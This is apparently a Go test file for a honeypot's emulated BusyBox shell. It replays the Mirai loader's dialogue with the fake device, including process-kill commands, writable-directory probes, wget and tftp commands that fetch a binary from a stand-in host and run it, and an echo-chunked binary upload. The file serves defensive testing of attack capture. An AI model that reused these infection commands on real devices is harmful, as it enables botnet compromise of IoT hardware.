package shell

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/session"
)

// The Mirai loader's and bot's checks, re-implemented from the public
// source release (loader/src/connection.c, server.c, headers/includes.h;
// bot/scanner.c), so the test fails when an answer would stop them.

const (
	tokenQuery    = "/bin/busybox ECCHI"
	tokenResponse = "ECCHI: applet not found"
	execQuery     = "/bin/busybox IHCCE"
	execResponse  = "IHCCE: applet not found"
	verifyHex     = `\x6b\x61\x6d\x69`
	verifyCheck   = "kami"
	fnDropper     = "upnp"
	fnBinary      = "dvrHelper"
)

// memsearch is util_memsearch: the offset just past the first match, or -1
// (with the original's quirk of not re-testing a mismatching byte).
func memsearch(buf []byte, mem string) int {
	if len(mem) > len(buf) {
		return -1
	}
	matched := 0
	for i := 0; i < len(buf); i++ {
		if buf[i] == mem[matched] {
			matched++
			if matched == len(mem) {
				return i + 1
			}
		} else {
			matched = 0
		}
	}
	return -1
}

// anyPrompt is connection_consume_prompt / consume_any_prompt.
func anyPrompt(buf []byte) bool {
	return bytes.ContainsAny(buf, ":>$#%")
}

// loaderArch is connection_consume_arch on a little-endian loader.
func loaderArch(buf []byte) (string, bool) {
	end := memsearch(buf, "ELF")
	if end == -1 {
		return "", false
	}
	start := end - 4
	if start < 0 || start+20 > len(buf) {
		return "", false
	}
	ehdr := buf[start:]
	machine := binary.LittleEndian.Uint16(ehdr[18:])
	switch ehdr[5] {
	case 0:
		return "", false
	case 2: // EE_BIG on LOADER_LITTLE_ENDIAN: htons
		machine = machine>>8 | machine<<8
	}
	switch machine {
	case 40, 183: // EM_ARM, EM_AARCH64
		return "arm", true
	case 8, 10: // EM_MIPS, EM_MIPS_RS3_LE
		if ehdr[5] == 1 {
			return "mpsl", true
		}
		return "mips", true
	case 3, 6, 7, 62: // EM_386, EM_486, EM_860, EM_X86_64
		return "x86", true
	case 2, 18, 43:
		return "spc", true
	case 4, 5:
		return "m68k", true
	case 20, 21:
		return "ppc", true
	case 42:
		return "sh4", true
	}
	return "", false
}

// mountDirs is connection_consume_mounts: the nippon probe lines it sends.
func mountDirs(buf []byte) []string {
	end := memsearch(buf, tokenResponse)
	var out []string
	for _, raw := range strings.Split(string(buf[:end]), "\n") {
		line := strings.Join(strings.Fields(strings.TrimRight(raw, "\r")), " ")
		f := strings.Split(line, " ")
		if len(f) < 4 {
			continue
		}
		path, info := strings.TrimSuffix(f[1], "/"), f[3]
		if strings.Contains(info, "rw") {
			out = append(out, fmt.Sprintf("/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat %s/.nippon; /bin/busybox rm %s/.nippon\r\n",
				verifyHex, path, path, path, path))
		}
	}
	return out
}

// writtenDir is connection_consume_written_dirs: the first directory the
// kami echo proved writable.
func writtenDir(buf []byte) (string, bool) {
	end := memsearch(buf, tokenResponse)
	if end == -1 {
		return "", false
	}
	total := 0
	for {
		off := memsearch(buf[total:end], verifyCheck)
		if off == -1 {
			return "", false
		}
		total += off
		rest := string(buf[total:])
		rest = strings.TrimLeft(rest, "\n")
		pch, _, _ := strings.Cut(rest, "\n")
		pch = strings.TrimSuffix(pch, "\r")
		if len(pch) < 31 {
			return pch, true
		}
		return "", false
	}
}

// psKills is connection_consume_psoutput: the kill commands it would send.
func psKills(buf []byte) []string {
	end := memsearch(buf, tokenResponse)
	var kills []string
	for _, line := range strings.Split(string(buf[:end]), "\n") {
		f := strings.Fields(strings.TrimRight(line, "\r"))
		if len(f) < 5 {
			continue
		}
		pid := 0
		fmt.Sscanf(f[0], "%d", &pid)
		name := f[4]
		if pid != 1 && (name == "init" || name == "[init]") {
			kills = append(kills, fmt.Sprintf("/bin/busybox kill -9 %d\r\n", pid))
		} else if pid > 400 && strings.Trim(name, "0123456789") == "" {
			kills = append(kills, fmt.Sprintf("/bin/busybox kill -9 %d\r\n", pid))
		}
	}
	return kills
}

// echoChunks is the loader's binary.c: 128 bytes per echo line as \xHH.
func echoChunks(bin []byte) []string {
	var out []string
	for i := 0; i < len(bin); i += 128 {
		var b strings.Builder
		for _, c := range bin[i:min(i+128, len(bin))] {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
		out = append(out, b.String())
	}
	return out
}

type loaderRun struct {
	arch, method, writeDir string
	commands               []session.Command
	sess                   session.Session
}

// runLoader plays the loader's whole dialogue against a device and checks
// each answer with the loader's own parser. bins maps the loader's arch
// names to the binaries it would upload.
func runLoader(t *testing.T, cfg Config, bins map[string][]byte) loaderRun {
	t.Helper()
	rec := newRecorder(t, session.Limits{})
	d := newDevice(t, cfg, rec)
	var run loaderRun

	// TELNET_WAITPASS_PROMPT: the prompt after login.
	if !anyPrompt([]byte(d.sh.Prompt())) {
		t.Fatalf("prompt %q has no prompt character", d.sh.Prompt())
	}
	out := d.send("enable\r\nshell\r\nsh\r\n")
	if !anyPrompt(out) {
		t.Fatalf("no prompt after enable/shell/sh: %q", out)
	}
	// TELNET_CHECK_LOGIN / VERIFY_LOGIN
	out = d.send(tokenQuery + "\r\n")
	if memsearch(out, tokenResponse) == -1 {
		t.Fatalf("token query answered %q", out)
	}
	// TELNET_PARSE_PS
	out = d.send("/bin/busybox ps; " + tokenQuery + "\r\n")
	if memsearch(out, tokenResponse) == -1 {
		t.Fatalf("ps answered %q", out)
	}
	for _, k := range psKills(out) {
		d.send(k)
	}
	// TELNET_PARSE_MOUNTS
	out = d.send("/bin/busybox cat /proc/mounts; " + tokenQuery + "\r\n")
	if memsearch(out, tokenResponse) == -1 {
		t.Fatalf("mounts answered %q", out)
	}
	var probe []byte
	for _, l := range mountDirs(out) {
		probe = append(probe, d.send(l)...)
	}
	probe = append(probe, d.send("/bin/busybox echo -e '"+verifyHex+"/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon\r\n")...)
	probe = append(probe, d.send(tokenQuery+"\r\n")...)
	dir, ok := writtenDir(probe)
	if !ok {
		t.Fatalf("no writable directory found in %q", probe)
	}
	run.writeDir = dir
	d.send(fmt.Sprintf("rm %s/.t; rm %s/.sh; rm %s/.human\r\n", dir, dir, dir))
	// TELNET_COPY_ECHO
	d.send("cd " + dir + "/\r\n")
	out = d.send("/bin/busybox cp /bin/echo " + fnBinary + "; >" + fnBinary + "; /bin/busybox chmod 777 " + fnBinary + "; " + tokenQuery + "\r\n")
	if memsearch(out, tokenResponse) == -1 {
		t.Fatalf("copy answered %q", out)
	}
	// TELNET_DETECT_ARCH: the first read the loader makes holds at most
	// 8192 bytes; the header must be in it.
	out = d.send("/bin/busybox cat /bin/echo\r\n")
	out = append(out, d.send(tokenQuery+"\r\n")...)
	first := out[:min(len(out), 8192)]
	arch, ok := loaderArch(first)
	if !ok {
		t.Fatalf("loader cannot determine the architecture from %q", first[:min(len(first), 64)])
	}
	if memsearch(out, tokenResponse) == -1 {
		t.Fatal("no token after cat /bin/echo")
	}
	if arch == "arm" {
		out = d.send("cat /proc/cpuinfo; " + tokenQuery + "\r\n")
		end := memsearch(out, tokenResponse)
		if end == -1 {
			t.Fatalf("cpuinfo answered %q", out)
		}
		if memsearch(out[:end], "ARMv7") != -1 || memsearch(out[:end], "ARMv6") != -1 {
			arch = "arm7"
		}
	}
	run.arch = arch
	bin, ok := bins[arch]
	if !ok {
		t.Fatalf("no binary for arch %q", arch)
	}
	// TELNET_UPLOAD_METHODS
	out = d.send("/bin/busybox wget; /bin/busybox tftp; " + tokenQuery + "\r\n")
	end := memsearch(out, tokenResponse)
	if end == -1 {
		t.Fatalf("upload method probe answered %q", out)
	}
	switch {
	case memsearch(out[:end], "wget: applet not found") == -1:
		run.method = "wget"
	case memsearch(out[:end], "tftp: applet not found") == -1:
		run.method = "tftp"
	default:
		run.method = "echo"
	}
	switch run.method {
	case "wget":
		out = d.send(fmt.Sprintf("/bin/busybox wget http://%s:%d/bins/%s.%s -O - > "+fnBinary+"; /bin/busybox chmod 777 "+fnBinary+"; "+tokenQuery+"\r\n",
			"203.0.113.5", 80, "mirai", arch))
		if memsearch(out, tokenResponse) == -1 {
			t.Fatalf("wget answered %q", out)
		}
		out = d.send("./" + fnBinary + " telnet." + arch + "; " + execQuery + "\r\n")
	case "tftp":
		out = d.send(fmt.Sprintf("/bin/busybox tftp -g -l %s -r %s.%s %s; /bin/busybox chmod 777 "+fnBinary+"; "+tokenQuery+"\r\n",
			fnBinary, "mirai", arch, "203.0.113.6"))
		end := memsearch(out, tokenResponse)
		if end == -1 {
			t.Fatalf("tftp answered %q", out)
		}
		for _, bad := range []string{"Permission denied", "timeout", "illegal option"} {
			if memsearch(out[:end], bad) != -1 {
				t.Fatalf("tftp answer %q makes the loader fall back", out)
			}
		}
		out = d.send("./" + fnBinary + " telnet." + arch + "; " + execQuery + "\r\n")
	case "echo":
		out = d.send("/bin/busybox cp " + fnBinary + " " + fnDropper + "; > " + fnDropper + "; /bin/busybox chmod 777 " + fnDropper + "; " + tokenQuery + "\r\n")
		if memsearch(out, tokenResponse) == -1 {
			t.Fatalf("dropper copy answered %q", out)
		}
		for i, chunk := range echoChunks(bin) {
			op := ">>"
			if i == 0 {
				op = ">"
			}
			out = d.send("echo -ne '" + chunk + "' " + op + " " + fnDropper + "; " + tokenQuery + "\r\n")
			if memsearch(out, tokenResponse) == -1 {
				t.Fatalf("echo chunk %d answered %q", i, out)
			}
		}
		out = d.send("./" + fnDropper + "; ./" + fnBinary + " telnet." + arch + "; " + execQuery + "\r\n")
	}
	// TELNET_RUN_BINARY
	if memsearch(out, execResponse) == -1 {
		t.Fatalf("run answered %q", out)
	}
	out = d.send("rm -rf " + fnDropper + "; > " + fnBinary + "; " + tokenQuery + "\r\n")
	if memsearch(out, tokenResponse) == -1 {
		t.Fatalf("cleanup answered %q", out)
	}
	d.sh.Close()
	rec.Close("closed")
	run.sess = rec.Snapshot()
	run.commands = run.sess.Commands
	return run
}

func hasCommand(cmds []session.Command, input, pattern string) bool {
	for _, c := range cmds {
		if c.Input == input && (pattern == "" || len(c.Patterns) == 1 && c.Patterns[0] == pattern) {
			return true
		}
	}
	return false
}

func TestMiraiBotProbe(t *testing.T) {
	rec := newRecorder(t, session.Limits{})
	d := newDevice(t, Config{Arch: "mips"}, rec)
	// bot/scanner.c: after the password, each of enable, system, shell, sh
	// waits for a prompt character; then the query must answer the token
	// and must not say "ncorrect".
	for _, w := range []string{"enable", "system", "shell", "sh"} {
		out := d.send(w + "\r\n")
		if !anyPrompt(out) {
			t.Fatalf("%s: no prompt in %q", w, out)
		}
	}
	out := d.send("/bin/busybox MIRAI\r\n")
	if memsearch(out, "ncorrect") != -1 || memsearch(out, "MIRAI: applet not found") == -1 {
		t.Fatalf("probe answered %q", out)
	}
	s := rec.Snapshot()
	if len(s.Commands) != 5 {
		t.Fatalf("commands %+v", s.Commands)
	}
	for i, w := range []string{"enable", "system", "shell", "sh"} {
		if s.Commands[i].Input != w || !s.Commands[i].Known {
			t.Errorf("command %d = %+v", i, s.Commands[i])
		}
	}
	if !hasCommand(s.Commands, "/bin/busybox MIRAI", "busybox-token") {
		t.Errorf("probe not recorded with busybox-token: %+v", s.Commands[4])
	}
}

func TestMiraiLoaderEcho(t *testing.T) {
	armv5 := testELF(1, 1, 40, 0x05000200, 3000, 0x5a)
	armv7 := testELF(1, 1, 40, 0x05000400, 2900, 0x33)
	mips := testELF(1, 2, 8, 0x1007, 3100, 0x11)
	mpsl := testELF(1, 1, 8, 0x1007, 3050, 0x22)
	x86 := testELF(1, 1, 3, 0, 2700, 0x44)
	bins := map[string][]byte{"arm": armv5, "arm7": armv7, "mips": mips, "mpsl": mpsl, "x86": x86}
	cases := []struct {
		arch, loaderArch, typ string
	}{
		{"arm", "arm", "elf32-arm-le"},
		{"arm7", "arm7", "elf32-arm-le"},
		{"mips", "mips", "elf32-mips-be"},
		{"mipsel", "mpsl", "elf32-mips-le"},
		{"x86_64", "x86", "elf32-x86-le"},
	}
	for _, tc := range cases {
		t.Run(tc.arch, func(t *testing.T) {
			run := runLoader(t, Config{Arch: tc.arch, Missing: []string{"wget", "tftp"}}, bins)
			if run.arch != tc.loaderArch || run.method != "echo" || run.writeDir != "/tmp" {
				t.Fatalf("loader chose arch %q method %q dir %q", run.arch, run.method, run.writeDir)
			}
			want := bins[tc.loaderArch]
			sum := sha256.Sum256(want)
			var samples []session.File
			for _, f := range run.sess.Files {
				if f.Sample {
					samples = append(samples, f)
				}
			}
			if len(samples) != 1 {
				t.Fatalf("samples %+v", samples)
			}
			f := samples[0]
			if f.Path != "/tmp/upnp" || f.SHA256 != hex.EncodeToString(sum[:]) || f.Type != tc.typ || f.Size != int64(len(want)) || f.Via != "echo" {
				t.Fatalf("sample %s %s %s %d %s, want sha %x type %s", f.Path, f.SHA256, f.Type, f.Size, f.Via, sum, tc.typ)
			}
			if !bytes.Equal(f.Content, want) {
				t.Fatal("sample content differs from the upload")
			}
			if !hasCommand(run.commands, tokenQuery, "busybox-token") {
				t.Error("token query not recorded with busybox-token")
			}
			first := "echo -ne '" + echoChunks(want)[0] + "' > upnp"
			if !hasCommand(run.commands, first, "echo-elf") {
				t.Error("first echo chunk not recorded with echo-elf")
			}
			if !hasCommand(run.commands, "./upnp", "") || !hasCommand(run.commands, execQuery, "busybox-token") {
				t.Error("run not recorded")
			}
			if len(run.sess.URLs) != 0 {
				t.Errorf("URLs %+v", run.sess.URLs)
			}
		})
	}
}

func TestMiraiLoaderWgetTftp(t *testing.T) {
	bins := map[string][]byte{"arm7": testELF(1, 1, 40, 0x05000400, 2000, 1), "mips": testELF(1, 2, 8, 0x1007, 2000, 2)}
	run := runLoader(t, Config{Arch: "arm7"}, bins)
	if run.method != "wget" || run.arch != "arm7" {
		t.Fatalf("method %q arch %q", run.method, run.arch)
	}
	if len(run.sess.URLs) != 1 {
		t.Fatalf("URLs %+v", run.sess.URLs)
	}
	u := run.sess.URLs[0]
	if u.URL != "http://203.0.113.5:80/bins/mirai.arm7" || u.Via != "wget" || u.Target != "/tmp/dvrHelper" {
		t.Fatalf("URL %+v", u)
	}
	if !hasCommand(run.commands, "/bin/busybox wget http://203.0.113.5:80/bins/mirai.arm7 -O - > dvrHelper", "wget-stdout") {
		t.Error("wget command not recorded with wget-stdout")
	}

	run = runLoader(t, Config{Arch: "mips", Missing: []string{"wget"}}, bins)
	if run.method != "tftp" || run.arch != "mips" {
		t.Fatalf("method %q arch %q", run.method, run.arch)
	}
	if len(run.sess.URLs) != 1 {
		t.Fatalf("URLs %+v", run.sess.URLs)
	}
	u = run.sess.URLs[0]
	if u.URL != "tftp://203.0.113.6/mirai.mips" || u.Via != "tftp" || u.Target != "/tmp/dvrHelper" {
		t.Fatalf("URL %+v", u)
	}
	if !hasCommand(run.commands, "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 203.0.113.6", "tftp-get") {
		t.Error("tftp command not recorded with tftp-get")
	}
	for _, f := range run.sess.Files {
		if f.Sample {
			t.Errorf("a placeholder download was kept as a sample: %+v", f)
		}
	}
}

// TestArchHeaders checks the ELF header of /bin/echo for every
// architecture, as file(1) would read it.
func TestArchHeaders(t *testing.T) {
	want := map[string]struct {
		class, data byte
		machine     uint16
		flags       uint32
		unameM      string
	}{
		"arm": {1, 1, 40, 0x05000200, "armv5tejl"}, "arm7": {1, 1, 40, 0x05000400, "armv7l"},
		"mips": {1, 2, 8, 0x50001007, "mips"}, "mipsel": {1, 1, 8, 0x50001007, "mips"},
		"x86": {1, 1, 3, 0, "i686"}, "x86_64": {2, 1, 62, 0, "x86_64"}, "aarch64": {2, 1, 183, 0, "aarch64"},
		"powerpc": {1, 2, 20, 0, "ppc"}, "sh4": {1, 1, 42, 9, "sh4"}, "m68k": {1, 2, 4, 0, "m68k"},
		"sparc": {1, 2, 2, 0, "sparc"},
	}
	if len(want) != len(Arches()) {
		t.Fatalf("test covers %d of %d arches", len(want), len(Arches()))
	}
	for _, a := range Arches() {
		w := want[a]
		sh := New(Config{Arch: a}, nil)
		out, _ := sh.Run("dd bs=64 count=1 if=/bin/echo 2>/dev/null")
		if len(out) != 64 {
			t.Fatalf("%s: dd printed %d bytes", a, len(out))
		}
		class, data, machine, ok := elfMachine(out)
		var bo binary.ByteOrder = binary.LittleEndian
		if data == 2 {
			bo = binary.BigEndian
		}
		flagsOff := 36
		if class == 2 {
			flagsOff = 48
		}
		if !ok || class != w.class || data != w.data || machine != w.machine || bo.Uint32(out[flagsOff:]) != w.flags {
			t.Errorf("%s: class %d data %d machine %d flags %#x", a, class, data, machine, bo.Uint32(out[flagsOff:]))
		}
		if bo.Uint16(out[16:]) != 2 || bo.Uint32(out[20:]) != 1 {
			t.Errorf("%s: e_type/e_version wrong", a)
		}
		m, _ := sh.Run("uname -m")
		if string(m) != w.unameM+"\n" {
			t.Errorf("%s: uname -m %q", a, m)
		}
		typ := session.FileType(sh.bb)
		if !strings.HasPrefix(typ, fmt.Sprintf("elf%d-", 32*int(w.class))) {
			t.Errorf("%s: busybox type %s", a, typ)
		}
		cat, _ := sh.Run("cat /bin/echo")
		if !bytes.HasPrefix(sh.bb, cat) || len(cat) != maxCmdOutput {
			t.Errorf("%s: cat /bin/echo printed %d bytes", a, len(cat))
		}
	}
}
